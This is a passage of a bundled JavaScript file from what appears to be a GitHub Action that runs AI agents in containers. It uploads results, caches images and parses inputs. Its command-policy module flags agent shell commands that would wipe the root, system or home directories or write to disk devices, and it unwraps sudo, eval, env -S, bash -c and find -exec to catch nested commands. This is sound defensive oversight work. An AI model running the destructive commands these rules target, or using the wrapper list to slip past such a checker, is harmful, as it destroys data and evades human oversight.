export const id = 202;
export const ids = [202];
export const modules = {

/***/ 94002:
/***/ ((module) => {

function webpackEmptyAsyncContext(req) {
	// Here Promise.resolve().then() is used instead of new Promise() to prevent
	// uncaught exception popping up in devtools
	return Promise.resolve().then(() => {
		var e = new Error("Cannot find module '" + req + "'");
		e.code = 'MODULE_NOT_FOUND';
		throw e;
	});
}
webpackEmptyAsyncContext.keys = () => ([]);
webpackEmptyAsyncContext.resolve = webpackEmptyAsyncContext;
webpackEmptyAsyncContext.id = 94002;
module.exports = webpackEmptyAsyncContext;

/***/ }),

/***/ 48338:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   mz: () => (/* binding */ uploadArtifact)
/* harmony export */ });
/* unused harmony exports uploadResults, defaultArtifactName */
/* harmony import */ var _actions_artifact__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(67458);
/* harmony import */ var _actions_core__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(33838);
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(77598);
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_2___default = /*#__PURE__*/__webpack_require__.n(node_crypto__WEBPACK_IMPORTED_MODULE_2__);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(73024);
/* harmony import */ var node_fs__WEBPACK_IMPORTED_MODULE_3___default = /*#__PURE__*/__webpack_require__.n(node_fs__WEBPACK_IMPORTED_MODULE_3__);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_4___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_4__);
/* harmony import */ var _report_files_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(50561);
/* harmony import */ var _log_js__WEBPACK_IMPORTED_MODULE_6__ = __webpack_require__(58592);
// The output directory as one workflow artifact, for both modes of the action, through
// @actions/artifact (only the action imports this: the CLI bundle carries no artifact client).
// The run has redacted the tree already (src/run/pipeline.ts); symlinks in it are never followed.







/** Files the artifact service rejects by path (NTFS-hostile characters). */
const INVALID_PATH_CHARS = /[":<>|*?\r\n]/;
async function uploadResults(opts) {
    const root = (0,node_path__WEBPACK_IMPORTED_MODULE_4__.resolve)(opts.rootDir);
    const files = [];
    let bytes = 0;
    for (const file of await (0,_report_files_js__WEBPACK_IMPORTED_MODULE_5__/* .listRegularFiles */ .yT)(root)) {
        const rel = file.slice(root.length + 1);
        if (INVALID_PATH_CHARS.test(rel)) {
            opts.log(`artifact: skipping ${JSON.stringify(rel)} (name not allowed in artifacts)`);
            continue;
        }
        // The client's zip stream throws from an event handler on a read error (uncatchable), so
        // anything we cannot open for reading stays out.
        try {
            const opened = await (0,_report_files_js__WEBPACK_IMPORTED_MODULE_5__/* .openRegular */ .lf)(file, node_fs__WEBPACK_IMPORTED_MODULE_3__.constants.O_RDONLY);
            if (!opened)
                continue;
            bytes += opened.st.size;
            await opened.fh.close();
            files.push(file);
        }
        catch (e) {
            opts.log(`artifact: skipping ${rel}: ${e.message}`);
        }
    }
    if (files.length === 0)
        return { ok: false, error: `no files to upload under ${root}` };
    opts.log(`artifact: uploading ${files.length} file(s), ${bytes} bytes, as ${opts.name}`);
    try {
        const client = new _actions_artifact__WEBPACK_IMPORTED_MODULE_0__/* .DefaultArtifactClient */ .t9();
        const res = await client.uploadArtifact(opts.name, files, root, opts.retentionDays !== undefined ? { retentionDays: opts.retentionDays } : {});
        if (res.id === undefined)
            return { ok: false, error: 'the artifact service returned no id' };
        const url = artifactUrl(res.id);
        opts.log(`artifact: ${opts.name} uploaded (id ${res.id}, ${res.size ?? 0} bytes zipped)`);
        return {
            ok: true,
            id: res.id,
            size: res.size ?? 0,
            files: files.length,
            ...(url ? { url } : {})
        };
    }
    catch (e) {
        return { ok: false, error: e instanceof Error ? e.message : String(e) };
    }
}
function artifactUrl(id, env = process.env) {
    const { GITHUB_SERVER_URL: server, GITHUB_REPOSITORY: repo, GITHUB_RUN_ID: run } = env;
    if (!server || !repo || !run)
        return undefined;
    return `${server.replace(/\/+$/, '')}/${repo}/actions/runs/${run}/artifacts/${id}`;
}
/**
 * Unique per job, attempt and caller identity. GITHUB_JOB is the same for every matrix leg and
 * the runner exposes no matrix values in env, so the caller passes what tells legs apart (config
 * path, agent filter, matrix JSON, strategy.job-index…); it is hashed into the name.
 */
function defaultArtifactName(identity, env = process.env) {
    const clean = (s) => s.replace(/[^A-Za-z0-9_.-]+/g, '-');
    const job = clean(env.GITHUB_JOB || 'local');
    const attempt = clean(env.GITHUB_RUN_ATTEMPT || '1');
    const base = `massgen-results-${job}-${attempt}`;
    const parts = identity.filter((s) => s !== '');
    if (parts.length === 0)
        return base;
    // JSON keeps ["a b"] and ["a", "b"] apart.
    const hash = (0,node_crypto__WEBPACK_IMPORTED_MODULE_2__.createHash)('sha256').update(JSON.stringify(parts)).digest('hex').slice(0, 10);
    return `${base}-${hash}`;
}
/**
 * Uploads the output directory as one artifact. `identity` makes the default name unique per mode
 * and selection.
 */
async function uploadArtifact(inputs, identity) {
    const base = inputs.artifactName ??
        defaultArtifactName([...identity, ...(inputs.agents ?? []), inputs.workingDirectory]);
    const upload = (name) => uploadResults({
        name,
        rootDir: inputs.outputDir,
        retentionDays: inputs.retentionDays,
        log: (s) => _actions_core__WEBPACK_IMPORTED_MODULE_1__/* .info */ .pq((0,_log_js__WEBPACK_IMPORTED_MODULE_6__/* .safeLine */ .o)(s))
    });
    let name = base;
    let up = await upload(name);
    // Matrix legs that differ only in values the runner does not expose can pick the same default
    // name; the service then refuses the second. Retry once under a unique name.
    if (!up.ok && !inputs.artifactName && /already exists|conflict|409/i.test(up.error)) {
        name = `${base}-${(0,node_crypto__WEBPACK_IMPORTED_MODULE_2__.randomBytes)(3).toString('hex')}`;
        up = await upload(name);
    }
    if (up.ok)
        _actions_core__WEBPACK_IMPORTED_MODULE_1__/* .info */ .pq(`uploaded artifact ${name} (id ${up.id}, ${up.size} bytes)`);
    else
        _actions_core__WEBPACK_IMPORTED_MODULE_1__/* .warning */ .$e(`artifact upload failed: ${up.error}; the files stay in ${inputs.outputDir}`);
    return up;
}


/***/ }),

/***/ 40804:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  l: () => (/* binding */ engineOptions)
});

// EXTERNAL MODULE: ./node_modules/@actions/core/lib/core.js + 7 modules
var core = __webpack_require__(33838);
// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(48161);
// EXTERNAL MODULE: ./src/action/log.ts
var log = __webpack_require__(58592);
;// CONCATENATED MODULE: ./src/action/image-cache.ts
// The action's image sources (inputs image-cache and image-registry): the Actions cache as the
// image store the Docker runtime restores our images from and saves them to, through
// @actions/cache, which only the action imports (loaded on first use: a run without a container
// never loads it). The cache client reports its own failures (a warning, or an error annotation
// for a 5xx from the service) and returns a miss; the runtime then builds, and the step goes on.



function actionsCacheStore(dir, load = () => __webpack_require__.e(/* import() */ 956).then(__webpack_require__.bind(__webpack_require__, 89956))) {
    let available;
    const usable = async (cache) => {
        if (available === undefined) {
            available = cache.isFeatureAvailable();
            if (!available)
                core/* info */.pq('image cache: the Actions cache service is not available to this step (no ACTIONS_RESULTS_URL / ACTIONS_CACHE_URL); images are built, not cached');
        }
        return available;
    };
    return {
        name: 'the Actions cache',
        dir,
        async restore(key, path) {
            const cache = await load();
            if (!(await usable(cache)))
                return false;
            return (await cache.restoreCache([path], key)) === key;
        },
        async save(key, path) {
            const cache = await load();
            if (!(await usable(cache)))
                return false;
            // -1: not saved; the client has said why (another job holds the key, a service error).
            return (await cache.saveCache([path], key)) !== -1;
        }
    };
}
function actionImageSources(inputs, env = process.env) {
    if (inputs.imageRegistry && inputs.imagePolicy !== 'auto')
        core/* warning */.$e(`image-registry is used only under image-policy auto; ignored with image-policy ${inputs.imagePolicy}`);
    return {
        store: inputs.imageCache ? actionsCacheStore(env.RUNNER_TEMP || (0,external_node_os_.tmpdir)()) : undefined,
        registry: inputs.imageRegistry,
        warn: (line) => core/* warning */.$e((0,log/* safeLine */.o)(line))
    };
}

// EXTERNAL MODULE: ./src/action/state.ts
var state = __webpack_require__(33175);
;// CONCATENATED MODULE: ./src/action/engine-options.ts
// What the action's run and verify-isolation modes hand the engine alike: the inputs that name the
// config, the agents and the images, and the hooks that log through the redacting console, mask
// secrets, save the run id for the post step and clean up on a signal.




function engineOptions(inputs) {
    return {
        configPath: inputs.config,
        outDir: inputs.outputDir,
        workingDirectory: inputs.workingDirectory,
        agents: inputs.agents,
        imagePolicy: inputs.imagePolicy,
        imageSources: actionImageSources(inputs),
        configRef: inputs.configRef,
        allowUnsafe: inputs.allowUnsafe,
        log: (line) => core/* info */.pq((0,log/* safeLine */.o)(line)),
        onSecret: (v) => core/* setSecret */.Pq(v),
        onStart: (runId) => (0,state/* saveRunState */.i)(runId, inputs.cleanup),
        handleSignals: true
    };
}


/***/ }),

/***/ 81729:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   getInputs: () => (/* binding */ getInputs)
/* harmony export */ });
/* harmony import */ var _actions_core__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(33838);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(76760);
/* harmony import */ var node_path__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_path__WEBPACK_IMPORTED_MODULE_1__);
/* harmony import */ var _config_defaults_js__WEBPACK_IMPORTED_MODULE_7__ = __webpack_require__(31954);
/* harmony import */ var _config_unsafe_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(75106);
/* harmony import */ var _errors_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(83916);
/* harmony import */ var _runtime_docker_index_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(21002);
/* harmony import */ var _isolation_index_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(59676);
/* harmony import */ var _runtime_ca_bundle_js__WEBPACK_IMPORTED_MODULE_6__ = __webpack_require__(8175);
// Action inputs → a typed context (docker/actions-toolkit style). Validation errors are thrown
// as UsageError so the action fails with a clear message.








function oneOf(name, value, allowed) {
    if (!allowed.includes(value)) {
        throw new _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .UsageError */ .eb(`input "${name}" must be one of ${allowed.join(', ')}; got "${value}"`);
    }
    return value;
}
function positive(name, value, integer = false) {
    if (value === '')
        return undefined;
    const n = Number(value);
    if (!(n > 0) || (integer && !Number.isInteger(n))) {
        throw new _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .UsageError */ .eb(`input "${name}" must be a positive ${integer ? 'whole ' : ''}number; got "${value}"`);
    }
    return n;
}
function bool(name, dflt) {
    const v = _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4(name);
    if (v === '')
        return dflt;
    if (/^(true|yes|1)$/i.test(v))
        return true;
    if (/^(false|no|0)$/i.test(v))
        return false;
    throw new _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .UsageError */ .eb(`input "${name}" must be true or false; got "${v}"`);
}
function registry(value) {
    if (!value.trim())
        return undefined;
    try {
        return (0,_runtime_docker_index_js__WEBPACK_IMPORTED_MODULE_4__.checkRegistryRepository)(value);
    }
    catch (e) {
        throw new _errors_js__WEBPACK_IMPORTED_MODULE_3__/* .UsageError */ .eb(`input "image-registry": ${(0,_errors_js__WEBPACK_IMPORTED_MODULE_3__/* .errorMessage */ .gJ)(e)}`);
    }
}
function getInputs(env = process.env) {
    const workingDirectory = _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('working-directory') || env.GITHUB_WORKSPACE || process.cwd();
    const agents = _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('agents')
        .split(/[,\s]+/)
        .filter(Boolean);
    return {
        config: _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('config', { required: true }),
        agents: agents.length ? agents : undefined,
        workingDirectory,
        imagePolicy: oneOf('image-policy', _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('image-policy') || 'auto', _config_defaults_js__WEBPACK_IMPORTED_MODULE_7__/* .IMAGE_POLICIES */ .pu),
        imageCache: bool('image-cache', true),
        imageRegistry: registry(_actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('image-registry')),
        timeoutSec: positive('timeout', _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('timeout')),
        outputDir: _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('output-dir') ||
            (0,node_path__WEBPACK_IMPORTED_MODULE_1__.join)(env.RUNNER_TEMP || workingDirectory, `massgen-results-${env.GITHUB_RUN_ID ?? 'local'}`),
        uploadArtifacts: bool('upload-artifacts', true),
        artifactName: _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('artifact-name') || undefined,
        retentionDays: positive('retention-days', _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('retention-days'), true),
        failOn: oneOf('fail-on', _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('fail-on') || 'failed', [
            'failed',
            'blocked',
            'never',
            'not-caught'
        ]),
        mode: oneOf('mode', _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('mode') || 'run', [
            'run',
            'verify-isolation',
            'serve'
        ]),
        cleanup: bool('cleanup', true),
        baseRef: _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('base-ref') || undefined,
        expectRuntime: (0,_isolation_index_js__WEBPACK_IMPORTED_MODULE_5__/* .expectRuntimeOption */ .fh)(_actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('expect-runtime')),
        configRef: _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('config-ref') || undefined,
        allowUnsafe: (0,_config_unsafe_js__WEBPACK_IMPORTED_MODULE_2__/* .parseUnsafeClasses */ .SB)(_actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('allow-unsafe'), 'input "allow-unsafe"'),
        caCertificates: (0,_runtime_ca_bundle_js__WEBPACK_IMPORTED_MODULE_6__/* .caCertificatesOption */ .yw)(_actions_core__WEBPACK_IMPORTED_MODULE_0__/* .getInput */ .V4('ca-certificates'), workingDirectory),
        quiet: bool('quiet', false)
    };
}


/***/ }),

/***/ 58592:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Q: () => (/* binding */ printUntrusted),
/* harmony export */   o: () => (/* binding */ safeLine)
/* harmony export */ });
/* harmony import */ var _actions_core__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(33838);
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(77598);
/* harmony import */ var node_crypto__WEBPACK_IMPORTED_MODULE_1___default = /*#__PURE__*/__webpack_require__.n(node_crypto__WEBPACK_IMPORTED_MODULE_1__);
// Printing text an agent controls into the Actions log without letting it issue workflow
// commands: it goes out between ::stop-commands::<random token> and ::<token>::, and each line is
// indented so that none starts with "::" even if a runner ignored stop-commands.


function printUntrusted(text) {
    if (!text)
        return;
    const token = `massgen-${(0,node_crypto__WEBPACK_IMPORTED_MODULE_1__.randomUUID)()}`;
    _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .info */ .pq(`::stop-commands::${token}`);
    for (const line of text.replace(/\n$/, '').split('\n'))
        _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .info */ .pq(`  ${line.replace(/\r/g, '')}`);
    _actions_core__WEBPACK_IMPORTED_MODULE_0__/* .info */ .pq(`::${token}::`);
}
/** One line of our own that embeds untrusted fragments (names, commands): neutralise "::". */
function safeLine(text) {
    return text.replace(/\r?\n/g, ' ').replace(/::/g, ':\u200b:');
}


/***/ }),

/***/ 31101:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  startServer: () => (/* binding */ startServer),
  stopServer: () => (/* binding */ stopServer)
});

// EXTERNAL MODULE: ./node_modules/@actions/core/lib/core.js + 7 modules
var lib_core = __webpack_require__(33838);
// EXTERNAL MODULE: external "node:child_process"
var external_node_child_process_ = __webpack_require__(31421);
// EXTERNAL MODULE: external "node:crypto"
var external_node_crypto_ = __webpack_require__(77598);
// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: external "node:os"
var external_node_os_ = __webpack_require__(48161);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
// EXTERNAL MODULE: external "node:url"
var external_node_url_ = __webpack_require__(73136);
// EXTERNAL MODULE: ./src/errors.ts
var errors = __webpack_require__(83916);
// EXTERNAL MODULE: ./src/run/plan.ts + 16 modules
var run_plan = __webpack_require__(27323);
;// CONCATENATED MODULE: ./src/config/notices.ts
// What a config says that is not an error, as lines: warnings (a context path that does not
// exist, a repeated key) and the MassGen keys accepted but not acted on. validate prints them, and
// so does every run, so that no key is dropped without a word.

function notices_warningLines(plan) {
    return (plan.warnings ?? []).map((w) => formatIssue({ ...w, message: `warning: ${w.message}` }));
}
/** One line per reason, at the first place, naming every key path it covers. */
function notices_ignoredLines(plan) {
    const byReason = new Map();
    for (const i of plan.ignored ?? []) {
        const entry = byReason.get(i.reason) ?? { at: i.at[0], paths: [] };
        entry.paths.push(i.at.length > 1 ? `${i.path} (×${i.at.length})` : i.path);
        byReason.set(i.reason, entry);
    }
    return [...byReason].map(([reason, { at, paths }]) => formatIssue({ ...at, message: `ignored: ${paths.join(', ')}: ${reason}` }));
}

// EXTERNAL MODULE: ./src/config/unsafe.ts
var unsafe = __webpack_require__(75106);
// EXTERNAL MODULE: ./src/report/write.ts
var write = __webpack_require__(1693);
;// CONCATENATED MODULE: ./src/policy/paths.ts
// Which paths matter: the root, system directories, home directories and block devices.

/** Top-level directories whose loss breaks the system (or the user's data). */
const SYSTEM_DIRS = [
    'bin',
    'boot',
    'dev',
    'etc',
    'home',
    'lib',
    'lib32',
    'lib64',
    'libx32',
    'media',
    'mnt',
    'opt',
    'proc',
    'root',
    'run',
    'sbin',
    'srv',
    'sys',
    'usr',
    'var'
];
/** Second-level directories as critical as their parents. */
const SYSTEM_SUBDIRS = {
    usr: ['bin', 'sbin', 'lib', 'lib32', 'lib64', 'libexec', 'include', 'share', 'local', 'src'],
    var: ['lib', 'log', 'spool', 'mail']
};
/**
 * Directories that chmod/chown must not touch, at any depth: the system directories less those
 * that hold users' data (home directories: only `/home` itself is protected, in isSystemPath;
 * the mount points /media and /mnt).
 */
const PERMISSION_SENSITIVE = new Set(SYSTEM_DIRS.filter((d) => !['home', 'media', 'mnt'].includes(d)));
/** /dev entries that are safe to write to; anything else under /dev is treated as a device. */
const SAFE_DEV = /^\/dev\/(null|zero|full|u?random|stdout|stderr|stdin|tty\d*|ptmx|console|fd\/.*|pts\/.*|shm(\/.*)?|mqueue\/.*)$/;
/** Lexically normalised absolute path (`//etc/./` → `/etc`), or the input for relative paths. */
function normalizePath(p) {
    if (!p.startsWith('/'))
        return p;
    const n = posix.normalize(p);
    return n.length > 1 ? n.replace(/\/+$/, '') : '/';
}
/** True when the component is only wildcards and dots (`*`, `.*`, `?*`): it matches anything. */
function matchesAnything(component) {
    return /^[.*?]*[*?][.*?]*$/.test(component) || /^\[.*\]$/.test(component);
}
/** Does a glob component (possibly without wildcards) match any of the names? */
function globMatchesAny(component, names) {
    if (!/[*?[]/.test(component))
        return names.includes(component);
    const re = new RegExp('^' +
        component
            .replace(/[.+^${}()|\\]/g, '\\$&')
            .replace(/\*/g, '.*')
            .replace(/\?/g, '.')
            .replace(/\[!/g, '[^') +
        '$');
    return names.some((n) => re.test(n));
}
/**
 * Why deleting this path recursively would be a disaster, or undefined when it is an ordinary
 * path. Handles `/`, `/*`, `/etc`, `/usr/*`, `/e??`, `~`, `~/*`, `~user`, `/home/<user>`.
 */
function paths_criticalTarget(word) {
    if (word === '')
        return undefined;
    if (word.startsWith('~')) {
        const slash = word.indexOf('/');
        const rest = slash < 0 ? '' : word.slice(slash + 1);
        const parts = rest.split('/').filter((s) => s !== '' && s !== '.');
        if (parts.every(matchesAnything))
            return 'the home directory';
        return undefined;
    }
    if (!word.startsWith('/'))
        return undefined;
    const parts = normalizePath(word)
        .split('/')
        .filter((s) => s !== '');
    if (parts.length === 0)
        return 'the root directory /';
    const [top, second, ...more] = parts;
    if (parts.every(matchesAnything))
        return 'everything under /';
    if (!globMatchesAny(top, SYSTEM_DIRS))
        return undefined;
    const topName = /[*?[]/.test(top) ? `${top} (matches system directories)` : `/${top}`;
    if (second === undefined)
        return `the system directory ${topName}`;
    if (top === 'home' || top === 'root') {
        if ([second, ...more].every(matchesAnything) || (top === 'home' && more.every(matchesAnything)))
            return 'a home directory';
        return undefined;
    }
    if ([second, ...more].every(matchesAnything))
        return `everything in ${topName}`;
    const subs = SYSTEM_SUBDIRS[top];
    if (subs && globMatchesAny(second, subs) && more.every(matchesAnything))
        return `the system directory /${top}/${second}`;
    return undefined;
}
/** True for paths chmod/chown must leave alone: `/` and anything below a system directory. */
function paths_isSystemPath(word) {
    if (!word.startsWith('/'))
        return false;
    const parts = normalizePath(word)
        .split('/')
        .filter((s) => s !== '');
    if (parts.length === 0)
        return true;
    if (parts[0] === 'home')
        return parts.length <= 1;
    return (PERMISSION_SENSITIVE.has(parts[0]) ||
        (/[*?[]/.test(parts[0]) && globMatchesAny(parts[0], [...PERMISSION_SENSITIVE])));
}
/** True for a path under /dev that is a disk, partition or memory device. */
function paths_isDevice(word) {
    const p = normalizePath(word);
    return p.startsWith('/dev/') && !SAFE_DEV.test(p);
}

;// CONCATENATED MODULE: ./src/policy/wrappers.ts
/** Command name as used for rules: the basename of `/bin/rm`. */
function wrappers_commandName(word) {
    const v = word.value;
    const slash = v.lastIndexOf('/');
    return slash >= 0 && slash < v.length - 1 ? v.slice(slash + 1) : v;
}
/** Index of the first word after the wrapper's own options and positionals. */
function skipOptions(words, spec, from = 1) {
    let i = from;
    while (i < words.length) {
        const w = words[i].value;
        if (w === '--') {
            i++;
            break;
        }
        if (w.startsWith('--') && w.length > 2) {
            const name = w.split('=')[0];
            const takesArg = spec.argLong?.some((l) => l === name || (name.length > 3 && l.startsWith(name)));
            i += takesArg && !w.includes('=') ? 2 : 1;
            continue;
        }
        if (w.startsWith('-') && w.length > 1) {
            let consumed = 1;
            for (let j = 1; j < w.length; j++) {
                if (spec.argShort?.includes(w[j])) {
                    if (j === w.length - 1)
                        consumed = 2;
                    break;
                }
            }
            i += consumed;
            continue;
        }
        if (spec.assignments && /^[A-Za-z_][A-Za-z0-9_]*=/.test(w)) {
            i++;
            continue;
        }
        break;
    }
    return Math.min(i + (spec.positionals ?? 0), words.length);
}
const WRAPPERS = {
    builtin: {},
    busybox: {},
    toybox: {},
    caffeinate: {},
    catchsegv: {},
    chrt: { positionals: 1 },
    chroot: { argLong: ['--userspec', '--groups'], positionals: 1 },
    coproc: {},
    doas: { argShort: 'uC' },
    eatmydata: {},
    exec: { argShort: 'a' },
    fakeroot: { argShort: 'lsi', argLong: ['--lib', '--faked'] },
    gosu: { positionals: 1 },
    'su-exec': { positionals: 1 },
    ionice: { argShort: 'cnpPu', argLong: ['--class', '--classdata', '--pid', '--pgid', '--uid'] },
    nice: { argShort: 'n', argLong: ['--adjustment'] },
    nocache: {},
    nohup: {},
    pkexec: { argLong: ['--user'] },
    setsid: {},
    stdbuf: { argShort: 'ioe', argLong: ['--input', '--output', '--error'] },
    strace: { argShort: 'abeEIoOpPsSuUX' },
    sudo: {
        argShort: 'ughpCDrtUT',
        argLong: [
            '--user',
            '--group',
            '--host',
            '--prompt',
            '--close-from',
            '--chdir',
            '--role',
            '--type',
            '--other-user',
            '--command-timeout'
        ],
        assignments: true
    },
    taskset: { positionals: 1 },
    time: { argShort: 'fo', argLong: ['--format', '--output'] },
    timeout: { argShort: 'sk', argLong: ['--signal', '--kill-after'], positionals: 1 },
    unbuffer: {},
    xargs: {
        argShort: 'IadELnPs',
        argLong: [
            '--arg-file',
            '--delimiter',
            '--max-lines',
            '--max-args',
            '--max-procs',
            '--max-chars',
            '--process-slot-var'
        ]
    }
};
const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'mksh', 'ash', 'yash', 'posh', 'fish']);
function wrappers_isShell(name) {
    return SHELLS.has(name);
}
/** How a simple command (words[0] is its name) runs other code, if it does. */
function wrappers_unwrap(words) {
    if (words.length === 0)
        return { kind: 'plain' };
    const name = wrappers_commandName(words[0]);
    const spec = WRAPPERS[name];
    if (spec) {
        if (name === 'exec' && words.length === 1)
            return { kind: 'plain' };
        const at = skipOptions(words, spec);
        if (at < words.length)
            return { kind: 'wrapper', inner: [words.slice(at)] };
        if (name === 'xargs')
            return { kind: 'wrapper', inner: [[{ ...words[0], value: 'echo' }]] };
        return { kind: 'plain' };
    }
    switch (name) {
        case 'command': {
            if (words.slice(1).some((w) => /^-[pvV]*[vV]/.test(w.value)))
                return { kind: 'plain' };
            const at = skipOptions(words, {});
            return at < words.length ? { kind: 'wrapper', inner: [words.slice(at)] } : { kind: 'plain' };
        }
        case 'env':
            return unwrapEnv(words);
        case 'eval':
            return words.length > 1
                ? { kind: 'script', scripts: [{ text: joined(words.slice(1)), via: 'eval' }] }
                : { kind: 'plain' };
        case 'su':
        case 'runuser':
            return unwrapSu(words, name);
        case 'sg':
        case 'flock':
        case 'script':
            return scriptOption(words, name, name === 'sg' ? 1 : name === 'flock' ? 1 : 0);
        case 'watch': {
            const at = skipOptions(words, { argShort: 'nqd', argLong: ['--interval', '--differences'] });
            if (at >= words.length)
                return { kind: 'plain' };
            return { kind: 'script', scripts: [{ text: joined(words.slice(at)), via: 'watch' }] };
        }
        case 'alias':
            return aliasScripts(words);
        case 'trap': {
            const first = words[1]?.value;
            if (!first || first.startsWith('-'))
                return { kind: 'plain' };
            return { kind: 'script', scripts: [{ text: words[1].value, via: 'trap' }] };
        }
        case 'find':
            return findExec(words);
    }
    if (SHELLS.has(name))
        return shellScript(words, name);
    return { kind: 'plain' };
}
function joined(words) {
    return words.map((w) => w.value).join(' ');
}
function unwrapEnv(words) {
    for (let i = 1; i < words.length; i++) {
        const w = words[i].value;
        // -S/--split-string: the string is split into words; parsing it as shell code is close.
        const split = /^(?:-S|--split-string(?:=|$))(.*)$/s.exec(w);
        if (split) {
            const text = [split[1] || words[++i]?.value || '', ...words.slice(i + 1).map((x) => x.value)];
            return { kind: 'script', scripts: [{ text: text.join(' '), via: 'env -S' }] };
        }
        if (/^-[^-]*S/.test(w)) {
            const rest = w.slice(w.indexOf('S') + 1);
            const text = [rest || words[++i]?.value || '', ...words.slice(i + 1).map((x) => x.value)];
            return { kind: 'script', scripts: [{ text: text.join(' '), via: 'env -S' }] };
        }
    }
    const at = skipOptions(words, {
        argShort: 'uC',
        argLong: ['--unset', '--chdir'],
        assignments: true
    });
    return at < words.length ? { kind: 'wrapper', inner: [words.slice(at)] } : { kind: 'plain' };
}
/** `su [options] [user] -c CMD`: options may come after the user name. */
function unwrapSu(words, name) {
    const found = scriptOption(words, name, 0);
    if (found.kind === 'script')
        return found;
    if (name === 'runuser') {
        const dash = words.findIndex((w) => w.value === '--');
        if (dash > 0 && dash + 1 < words.length)
            return { kind: 'wrapper', inner: [words.slice(dash + 1)] };
    }
    return { kind: 'plain' };
}
/** A `-c CMD` / `--command=CMD` option anywhere, or (sg, flock) the word after N positionals. */
function scriptOption(words, name, positionals) {
    for (let i = 1; i < words.length; i++) {
        const w = words[i].value;
        let text;
        if (/^--command=/.test(w))
            text = w.slice('--command='.length);
        else if (w === '--command' || w === '-c' || /^-[a-zA-Z]*c$/.test(w))
            text = words[i + 1]?.value;
        else if (/^-c./.test(w))
            text = w.slice(2);
        if (text !== undefined)
            return { kind: 'script', scripts: [{ text, via: `${name} -c` }] };
    }
    if (positionals > 0) {
        const at = skipOptions(words, {
            argShort: 'wE',
            argLong: ['--timeout', '--conflict-exit-code'],
            positionals
        });
        if (at < words.length) {
            return name === 'sg'
                ? { kind: 'script', scripts: [{ text: joined(words.slice(at)), via: 'sg' }] }
                : { kind: 'wrapper', inner: [words.slice(at)] };
        }
    }
    return { kind: 'plain' };
}
function aliasScripts(words) {
    const scripts = [];
    for (const w of words.slice(1)) {
        const eq = w.value.indexOf('=');
        if (eq > 0)
            scripts.push({ text: w.value.slice(eq + 1), via: 'alias' });
    }
    return scripts.length ? { kind: 'script', scripts } : { kind: 'plain' };
}
/** `find … -exec CMD … ;` (also -execdir, -ok, -okdir): each CMD is a command of its own. */
function findExec(words) {
    const inner = [];
    for (let i = 1; i < words.length; i++) {
        if (!/^-(exec|execdir|ok|okdir)$/.test(words[i].value))
            continue;
        let end = i + 1;
        while (end < words.length && words[end].value !== ';' && words[end].value !== '+')
            end++;
        if (end > i + 1)
            inner.push(words.slice(i + 1, end));
        i = end;
    }
    return inner.length ? { kind: 'wrapper', inner } : { kind: 'plain' };
}
/** `bash [opts] -c CODE [arg0 args…]`; options may be clustered (`-lc`, `-euxc`). */
function shellScript(words, name) {
    let i = 1;
    let hasC = false;
    while (i < words.length) {
        const w = words[i].value;
        if (w === '--' || w === '-') {
            i++;
